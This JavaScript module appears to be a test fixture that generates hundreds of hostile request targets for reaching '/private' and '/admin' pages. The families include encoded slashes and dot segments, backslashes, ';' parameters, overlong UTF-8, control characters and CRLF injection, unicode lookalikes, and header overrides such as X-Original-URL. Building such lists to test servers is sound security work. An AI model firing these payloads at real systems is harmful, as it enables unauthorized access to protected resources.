// Hostile paths: request targets that some server, somewhere, reads as a page below `/private` or `/admin`,
// while they look like something else. By families; each family is one idea of how two readers may disagree.
//
// A target is text of which each character is one byte, to be sent as it stands: see `utf8`.

/** The closed folders, and a page that is in each of them. */
export const closed = { private: "diary", admin: "keys" };

/**
 * All of them, as requests `{ family, target, method, headers }`; no two are the same. `host` is where they go
 * to: some targets name it. `headers` are names and values in turn.
 */
export function hostilePaths(host) {
  const all = Object.entries(closed).flatMap(([folder, page]) => [
    ...Object.entries(families).flatMap(([family, targets]) => targets(folder, page, host).map((target) => hostile(family, target))),
    ...aside(folder, page),
  ]);
  all.push(...combined("private", closed.private).map((target) => hostile("two at once", target)));
  const seen = new Set();
  return all.filter(({ method, target, headers }) => seen.size < seen.add(JSON.stringify([method, target, headers])).size);
}

const hostile = (family, target, method = "GET", headers = []) => ({ family, target, method, headers });

/** The bytes of a text as UTF-8, one character for each. */
const utf8 = (text) => Buffer.from(text, "utf8").toString("latin1");

/** Every byte percent-encoded; with several `depths` the percent signs too. */
function encoded(text, depths = 1) {
  const once = [...Buffer.from(text, "latin1")].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
  return depths === 1 ? once : once.replaceAll("%", `%${"25".repeat(depths - 1)}`);
}

const title = (word) => word[0].toUpperCase() + word.slice(1);
const first = (word, change) => change(word[0]) + word.slice(1);
const last = (word, change) => word.slice(0, -1) + change(word.at(-1));
const waves = (word) => [...word].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("");

/** Each family: the targets for a closed folder `f` and the page `p` in it. */
const families = {
  "as it is": (f, p) => [`/${f}/${p}`, `/${f}`, `/${f}/`, `/${f}/${p}/`, `/${f}/nothing`],

  case: (f, p) => [
    `/${f.toUpperCase()}/${p}`, `/${title(f)}/${p}`, `/${waves(f)}/${p}`, `/${last(f, (c) => c.toUpperCase())}/${p}`,
    `/${f.toUpperCase()}/${p.toUpperCase()}`, `/${f.toUpperCase()}`, `/${title(f)}/`, `/PUBLIC/../${f.toUpperCase()}/${p}`,
  ],

  "letters encoded once": (f, p) => [
    `/${first(f, encoded)}/${p}`, `/${last(f, encoded)}/${p}`, `/${encoded(f)}/${p}`, `/${encoded(f).toUpperCase()}/${p}`,
    `/${f}/${encoded(p)}`, `/${encoded(f)}/${encoded(p)}`, `/${first(f.toUpperCase(), encoded)}/${p}`, `/${encoded(f.toUpperCase())}/${p}`,
    `/${encoded(f)}`, `/${first(f, encoded)}/`,
  ],

  "letters encoded again": (f, p) => [
    `/${first(f, (c) => encoded(c, 2))}/${p}`, `/${encoded(f, 2)}/${p}`, `/${first(f, (c) => encoded(c, 3))}/${p}`,
    `/${first(f, (c) => encoded(c, 4))}/${p}`, `/${first(f, (c) => encoded(encoded(c)))}/${p}`, `/${encoded(encoded(f))}/${p}`,
    `/${f.slice(0, 1)}${encoded(f.slice(1, 2), 2)}${encoded(f.slice(2))}/${p}`, `/${encoded(f, 2)}`,
  ],

  "slashes encoded": (f, p) => [
    `/${f}%2f${p}`, `/${f}%2F${p}`, `%2f${f}/${p}`, `/%2f${f}/${p}`, `/%2f%2f${f}%2f${p}`, `/%2f${f}%2f${p}`, `/${f}%2f`, `/${f}/%2f${p}`,
    `/${f}%252f${p}`, `/%252f${f}/${p}`, `/${f}%25252f${p}`, `/public%2f${f}/${p}`, `/${f}%%32%66${p}`, `/${f}%2%66${p}`,
  ],

  "dot segments": (f, p) => [
    `/./${f}/${p}`, `/../${f}/${p}`, `/../../../${f}/${p}`, `/public/../${f}/${p}`, `/public/./../${f}/${p}`, `/public/x/../../${f}/${p}`,
    `/public/x/y/../../../${f}/./${p}`, `/${f}/./${p}`, `/${f}/../${f}/${p}`, `/public/../${f}`, `/${f}/.`, `/${f}/..`, `/${f}/${p}/..`,
    `/${f}/x/../${p}`, `/${f}/../public/x`, `/public/.../../../${f}/${p}`, `/.../../${f}/${p}`, `/public/..${f}/${p}`, `public/../${f}/${p}`,
  ],

  "dot segments encoded": (f, p) => [
    `/%2e/${f}/${p}`, `/%2e%2e/${f}/${p}`, `/public/%2e%2e/${f}/${p}`, `/public/%2E%2E/${f}/${p}`, `/public/.%2e/${f}/${p}`,
    `/public/%2e./${f}/${p}`, `/public/..%2f${f}/${p}`, `/public/..%2f${f}%2f${p}`, `/public/..%2F${f}/${p}`, `/public/%2e%2e%2f${f}/${p}`,
    `/public%2f..%2f${f}/${p}`, `/public%2f%2e%2e%2f${f}%2f${p}`, `/public%2f../${f}/${p}`, `/public/x/..%2f..%2f${f}/${p}`,
    `/public/x%2f..%2f..%2f${f}/${p}`, `/public/%2e%2f%2e%2e%2f${f}/${p}`, `/..%2f${f}/${p}`, `/%2e%2e%2f${f}/${p}`, `/public/..%2f..%2f..%2f${f}/${p}`,
    `/public/..%2f./${f}/${p}`, `/${f}%2f.%2f${p}`, `/public/%2e%2e%2f%2e%2e/${f}/${p}`, `/${f}/..%2f${f}%2f${p}`, `/${f}%2f..%2fpublic%2fx`,
  ],

  "dot segments encoded again": (f, p) => [
    `/public/%252e%252e/${f}/${p}`, `/public/..%252f${f}/${p}`, `/public/%252e%252e%252f${f}/${p}`, `/public%252f..%252f${f}%252f${p}`,
    `/public/%25252e%25252e/${f}/${p}`, `/public/..%25252f${f}/${p}`, `/public/%%32%65%%32%65/${f}/${p}`, `/public/%25%32%65%25%32%65/${f}/${p}`,
    `/public/.%252e/${f}/${p}`, `/public/%2e%252e%2f${f}/${p}`, `/public/%252e%252e%2f${f}/${p}`, `/%252e/${f}/${p}`,
  ],

  backslashes: (f, p) => [
    `\\${f}\\${p}`, `/\\${f}\\${p}`, `/\\${f}/${p}`, `/${f}\\${p}`, `/public\\..\\${f}\\${p}`, `/public/..\\${f}/${p}`, `/public\\../${f}/${p}`,
    `/%5c${f}/${p}`, `/${f}%5c${p}`, `/${f}%5C${p}`, `/public%5c..%5c${f}%5c${p}`, `/public/..%5c${f}/${p}`, `/public/%2e%2e%5c${f}/${p}`,
    `/public/..%255c${f}/${p}`, `/${f}%255c${p}`, `/public/..%5c/${f}/${p}`, `/public/x%5c..%2f..%5c${f}/${p}`, `/%5c%5c${f}%5c${p}`, `/.\\${f}/${p}`,
  ],

  parameters: (f, p) => [
    `/${f};/${p}`, `/${f};v=1/${p}`, `/${f};a=b;c=d/${p}`, `/;/${f}/${p}`, `/;v=1/${f}/${p}`, `/${f}/;/${p}`, `/${f}/${p};v=1`, `/${f}/${p};.css`,
    `/${f};jsessionid=0/${p}`, `/public/..;/${f}/${p}`, `/public/..;v=1/${f}/${p}`, `/public;/../${f}/${p}`, `/public/.;/../${f}/${p}`,
    `/public/x;/..;/..;/${f}/${p}`, `/..;/${f}/${p}`, `/public/%2e%2e;/${f}/${p}`, `/public/..%3b/${f}/${p}`, `/public/..%253b/${f}/${p}`,
    `/${f}%3b/${p}`, `/${f}%3bv=1/${p}`, `/${f}%253b/${p}`, `/${f};%2f${p}`, `/${f};/../${f}/${p}`, `/public;%2f..%2f..%2f${f}/${p}`, `/${f};`,
    `/public/x;/../../${f}/${p}`, `/${f};?/${p}`, `/;${f}/${p}`,
  ],

  "slashes doubled": (f, p) => [
    `//${f}/${p}`, `///${f}/${p}`, `////${f}//${p}`, `/${f}//${p}`, `/${f}///${p}`, `/${f}/${p}//`, `//${f}`, `//${f}//`, `/public//../${f}/${p}`,
    `/public//../../${f}/${p}`, `/public///..//../${f}/${p}`, `//public/../${f}/${p}`, `/.//${f}/${p}`, `//./${f}/${p}`, `/%2f/${f}/${p}`,
    `//public/${f}/${p}`, `//x:1@y:2/${f}/${p}`, `///public/${f}/${p}`, `//public//${f}/${p}`, `//public\\${f}\\${p}`, `//public/${encoded(f)}/${p}`, `//public/..%2f${f}/${p}`,
    `/%2fpublic/${f}/${p}`, `/\\public/${f}/${p}`, `/%5cpublic/${f}/${p}`, `//..//${f}/${p}`, `/public//..%2f${f}/${p}`, `/public/..%2f%2f${f}/${p}`, `/public/..//${f}/${p}`,
  ],

  unicode: (f, p) => [
    ...["\uff0f", "\u2215", "\u2044", "\u29f8"].flatMap((slash) => [`/${f}${utf8(slash)}${p}`, `/public/..${encoded(utf8(slash))}${f}/${p}`]),
    ...["\uff0e\uff0e", "\u2025", "\u2024\u2024", "\u3002\u3002"].flatMap((dots) => [`/public/${utf8(dots)}/${f}/${p}`, `/public/${encoded(utf8(dots))}/${f}/${p}`]),
    ...["\uff3c", "\u2216", "\u00a5", "\u20a9"].map((backslash) => `/public/..${encoded(utf8(backslash))}${f}/${p}`),
    `/${utf8(wide(f))}/${p}`, `/${encoded(utf8(wide(f)))}/${p}`, `/${encoded(utf8(wide(f[0])))}${f.slice(1)}/${p}`,
    ...["\u200b", "\u200d", "\ufeff", "\u00ad", "\u0301", "\u202e", "\u00a0", "\u2028", "\u3000"].map((mark) => `/${f}${encoded(utf8(mark))}/${p}`),
    `/${encoded(utf8("\u200b"))}${f}/${p}`, `/${utf8(f.replace("i", "\u0131"))}/${p}`, `/${encoded(utf8(f.replace("i", "\u0131")))}/${p}`,
    `/${encoded(utf8(f.toUpperCase().replace("I", "\u0130")))}/${p}`, `/${encoded(utf8(f.replace("a", "\u0430")))}/${p}`, `/${encoded(utf8(f.replace("a", "\u00aa")))}/${p}`,
    `/%u00${f.charCodeAt(0).toString(16)}${f.slice(1)}/${p}`, `/public/..%u002f${f}/${p}`, `/public/%u002e%u002e/${f}/${p}`, `/public/..%uff0f${f}/${p}`,
    `/\\u00${f.charCodeAt(0).toString(16)}${f.slice(1)}/${p}`, `/public/..%ef%bc%8f${f}/${p}`, `/+AC8-${f}/${p}`,
  ],

  "overlong UTF-8": (f, p) => [
    `/${f}%c0%af${p}`, `/public/..%c0%af${f}/${p}`, `/public/%c0%ae%c0%ae/${f}/${p}`, `/public/%c0%ae%c0%ae%c0%af${f}/${p}`, `/%c0%af${f}/${p}`,
    `/public/..%e0%80%af${f}/${p}`, `/public/%e0%80%ae%e0%80%ae/${f}/${p}`, `/public/..%f0%80%80%af${f}/${p}`, `/public/..%f8%80%80%80%af${f}/${p}`,
    `/public/..%fc%80%80%80%80%af${f}/${p}`, `/public/..%c1%9c${f}/${p}`, `/${overlong(f[0])}${f.slice(1)}/${p}`, `/${[...f].map(overlong).join("")}/${p}`,
    `/public/..\xc0\xaf${f}/${p}`, `/public/\xc0\xae\xc0\xae/${f}/${p}`, `/public/..%c0%2f${f}/${p}`, `/public/..%25c0%25af${f}/${p}`, `/public/..%c0%9v${f}/${p}`,
    `/${f}%ff/${p}`, `/${f}\xff/${p}`, `/${f}%80/${p}`, `/${f}%ed%a0%af/${p}`,
  ],

  "ends that are cut": (f, p) => [
    `/${f}./${p}`, `/${f}.../${p}`, `/${f}%2e/${p}`, `/${f}%20/${p}`, `/${f}+/${p}`, `/${f}/${p}.`, `/${f}/${p}%20`, `/${f}/${p}%2e%20`, `/${f}%20%2e/${p}`,
    `/%20${f}/${p}`, `/${f}::$DATA/${p}`, `/${f}/${p}::$DATA`, `/${f}/${p}~1`, `/${f}.json`, `/${f}/${p}.html`, `/${f}/${p}.css`, `/${f}/${p}/x.css`,
    `/${f}:/${p}`, `/${f}*/${p}`, `/${f.slice(0, -1)}%3f/${p}`, `/${f.slice(0, -1)}*/${p}`, `/${f}'/${p}`, `/${f}"/${p}`, `/${f}%22/${p}`,
    `/public/.. /${f}/${p}`, `/public/..%20/${f}/${p}`, `/public/...%2f${f}/${p}`, `/public/..%20%2f${f}/${p}`,
  ],

  "control characters": (f, p) => [
    ...["%00", "%0a", "%0d", "%0d%0a", "%09", "%01", "%1f", "%7f", "%08", "%0b", "%85", "%c2%85", "%2500", "%250a"].flatMap((mark) => [`/${f}${mark}/${p}`, `/${mark}${f}/${p}`]),
    `/${f}/${p}%00`, `/${f}/${p}%00.html`, `/${f}%00.css/${p}`, `/public/x%00/../../${f}/${p}`, `/public/..%00/${f}/${p}`, `/public/.%00./${f}/${p}`,
    `/public/.%09./${f}/${p}`, `/public/.%0a./${f}/${p}`, `/${f}\t/${p}`, `/\t${f}/${p}`, `\t/${f}/${p}`, ` /${f}/${p}`, `/public/.\t./${f}/${p}`, `/${f}\x00/${p}`,
    `/${f}\x0b/${p}`, `/${f}\x7f/${p}`, `/\x01${f}/${p}`, `/${f}\r/${p}`, `/${f} /${p}`, `/public/x%20HTTP/1.1%0d%0a%0d%0aGET%20/${f}/${p}`,
  ],

  fragments: (f, p) => [
    `/public/x#/../../${f}/${p}`, `/public#/../${f}/${p}`, `#/${f}/${p}`, `/#/${f}/${p}`, `/#/../${f}/${p}`, `/${f}#/${p}`, `/${f}/${p}#x`, `/${f}/${p}#/../../public/x`,
    `/public/x%23/../../${f}/${p}`, `/public/..%23/${f}/${p}`, `/${f}%23/${p}`, `/${f}/${p}%23`, `/${f}/${p}%2523`, `/public#/../../${f}/${p}?x`,
  ],

  "queries in the path": (f, p) => [
    `/${f}/${p}?`, `/${f}?/${p}`, `/${f}/${p}?x=/public/`, `/${f}/${p}??`, `/${f}/${p}?/../../public/x`, `/public/x?/../../${f}/${p}`, `/public?/../${f}/${p}`,
    `?/${f}/${p}`, `/?/${f}/${p}`, `/?/../${f}/${p}`, `/${f}%3f/${p}`, `/${f}/${p}%3fx`, `/public/x%3f/../../${f}/${p}`, `/public/x%3f/..%2f..%2f${f}/${p}`,
    `/public/..%2f${f}%2f${p}?x=y`, `/${f}%253f/${p}`, `/${f}&/${p}`, `/public/x&/../../${f}/${p}`, `/public/x?path=/${f}/${p}`, `/public/..%3f/${f}/${p}`,
    `/${f}/${p}?x#y`, `/public/x?#/../../${f}/${p}`,
  ],

  "reserved characters": (f, p) => [
    ..."!$&'()*+,:@=[]{}|^`<>~-_\"".split("").map((mark) => `/${f}${encoded(mark)}/${p}`),
    ...["%", "%2", "%zz", "%g0", "%-1", "%%", "%25", "%2525"].flatMap((broken) => [`/${f}${broken}/${p}`, `/${f}/${p}${broken}`]),
    `/%${f}/${p}`, `/%/${f}/${p}`, `/public/%/../${f}/${p}`, `/public/..%/${f}/${p}`, `/{${f}}/${p}`, `/[${f}]/${p}`, `/(${f})/${p}`, `/${f}^/${p}`, `/${f}|/${p}`, `/~/${f}/${p}`,
  ],

  "whole URLs": (f, p, host) => [
    `http://${host}/${f}/${p}`, `HTTP://${host}/${f}/${p}`, `https://${host}/${f}/${p}`, `http://${host.toUpperCase()}/${f}/${p}`, `http://${host}//${f}/${p}`,
    `http://${host}/public/../${f}/${p}`, `http://${host}/public/%2e%2e/${f}/${p}`, `http://${host}/public/..%2f${f}/${p}`, `http://${host}/${f.toUpperCase()}/${p}`,
    `http://${host}/./${f}/${p}`, `http://${host}\\${f}\\${p}`, `http:/${f}/${p}`, `http:///${f}/${p}`, `http:${f}/${p}`, `http:\\\\${host}\\${f}\\${p}`, `http:////${host}/${f}/${p}`,
    `http://user:word@${host}/${f}/${p}`, `http://${host}@other.example/${f}/${p}`, `http://other.example/${f}/${p}`, `http://other.example@${host}/${f}/${p}`,
    `http://${host}?/${f}/${p}`, `http://${host}#/${f}/${p}`, `http://${host}#@other.example/${f}/${p}`, `http://${host}/?/../${f}/${p}`, `http://${host}./${f}/${p}`,
    `http://127.0.0.1/${f}/${p}`, `ws://${host}/${f}/${p}`, `ftp://${host}/${f}/${p}`, `file:///${f}/${p}`, `javascript:/${f}/${p}`, `data:,/${f}/${p}`, `x:/${f}/${p}`,
    `/http://${host}/${f}/${p}`, `/http:/${host}/../../${f}/${p}`, `//${host}/${f}/${p}`, `//${host}/../${f}/${p}`, `/\\${host}/${f}/${p}`, `//other.example/${f}/${p}`,
  ],

  "no path at all": (f, p, host) => [`*`, `*/${f}/${p}`, `${f}/${p}`, `./${f}/${p}`, `../${f}/${p}`, host, `${host}/${f}/${p}`, `@${host}/${f}/${p}`, `:/${f}/${p}`, `.`, `;/${f}/${p}`],
};

const wide = (word) => [...word].map((letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)).join("");
const overlong = (letter) => encoded(String.fromCharCode(0xc0 | (letter.charCodeAt(0) >> 6), 0x80 | (letter.charCodeAt(0) & 0x3f)));

/** Two tricks in one target: a way in, a separator and a spelling of the folder, each with each. */
function combined(f, p) {
  const ways = ["", "/public/..", "/public/%2e%2e", "/public/..;", "/public%2f..", "//public"];
  const separators = ["/", "//", "%2f", "\\", "%5c", ";/"];
  const spellings = [f, title(f), first(f, encoded), first(f, (letter) => encoded(letter, 2)), `${f};v`];
  return ways.flatMap((way) => separators.flatMap((separator) => spellings.map((spelling) => `${way}${separator}${spelling}/${p}`)));
}

/** What is not in the target: methods, and headers by which some servers let a request be another. */
function aside(f, p) {
  const page = `/${f}/${p}`;
  const methods = ["HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "PURGE", "MKCOL", "get", "CONNECT"];
  const overrides = ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X_HTTP_Method_Override"];
  const elsewhere = [
    "X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-URI", "X-Forwarded-Path", "X-Forwarded-Prefix", "X-Script-Name", "X_Original_URL", "Script-Name",
    "X-Override-URL", "PATH_INFO", "Path-Info", "X-Accel-Redirect", "X-Sendfile", "Request-URI", "Destination", "Content-Location",
  ];
  return [
    ...methods.flatMap((method) => [hostile("methods", page, method), hostile("methods", `/public/..%2f${f}/${p}`, method)]),
    ...overrides.flatMap((name) => ["GET", "POST", "HEAD"].map((method) => hostile("methods overridden", page, method, [name, method === "GET" ? "OPTIONS" : "GET"]))),
    ...elsewhere.map((name) => hostile("another path in a header", "/public/x", "GET", [name, page])),
    ...["SCRIPT_NAME", "Script_Name", "X-Script-Name", "X_SCRIPT_NAME", "X-Forwarded-Prefix"].map((name) => hostile("a prefix in a header", `/public${page}`, "GET", [name, "/public"])),
    hostile("methods overridden", `${page}?_method=OPTIONS`, "POST"),
    hostile("methods", page, "OPTIONS", ["Origin", "https://other.example", "Access-Control-Request-Method", "GET"]),
  ];
}
